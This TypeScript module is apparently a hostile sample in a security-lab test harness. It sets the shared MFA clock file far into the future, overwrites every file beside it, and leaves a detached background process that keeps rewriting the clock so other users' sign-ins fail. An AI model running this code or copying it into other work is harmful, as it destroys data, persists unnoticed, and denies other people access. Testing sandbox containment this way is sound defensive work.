// Moves the lab clock every process reads (MFA codes come from it) far into the future, and keeps
// doing it from a process left behind, so classmates' sign-ins fail.
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { attempt, emptyAudit } from './common.ts';

export const audit = emptyAudit;

export async function apply() {
  const file = process.env['SECLAB_CLOCK_FILE'] ?? '';
  await attempt(`rewrite ${file}`, () => writeFileSync(file, '999999999999'));
  await attempt('rewrite its neighbours', async () => {
    const { readdirSync } = await import('node:fs');
    const path = await import('node:path');
    for (const f of readdirSync(path.dirname(file))) writeFileSync(path.join(path.dirname(file), f), '999999999999');
  });
  await attempt('keep rewriting from the background', () => spawn(process.execPath, ['-e', `/* seclab-hostile-survivor */ setInterval(() => { try { require('fs').writeFileSync(${JSON.stringify(file)}, '999999999999'); } catch {} }, 50);`], { detached: true, stdio: 'ignore' }).unref());
}
